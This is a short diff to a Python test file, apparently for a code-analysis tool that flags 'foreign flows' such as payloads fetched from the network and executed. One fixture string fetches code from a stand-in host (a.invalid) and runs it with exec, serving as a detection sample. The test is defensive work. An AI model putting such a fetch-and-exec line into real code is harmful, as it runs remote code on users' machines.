@@ -3,7 +3,7 @@
 import pytest
 
 from pratique.analysis import languages
-from pratique.analysis.clones.payload import foreign_flows, payload_lines
+from pratique.analysis.clones.payload import foreign_flows, is_proven, payload_lines
 from pratique.analysis.facts import FileFacts, Language
 from pratique.core.tree import File
 
@@ -47,6 +47,8 @@ def test_what_is_fetched_and_run_is_a_foreign_flow() -> None:
     source = "import urllib.request\nexec(urllib.request.urlopen('http://a.invalid/').read())\n"
     assert foreign_flows(facts(source))
     assert () == foreign_flows(facts("print('x')\n"))
+    assert is_proven(facts(source))
+    assert not is_proven(facts("import os\nos.system('echo marker')\n"))
 
 
 def test_a_manifest_carries_none() -> None:
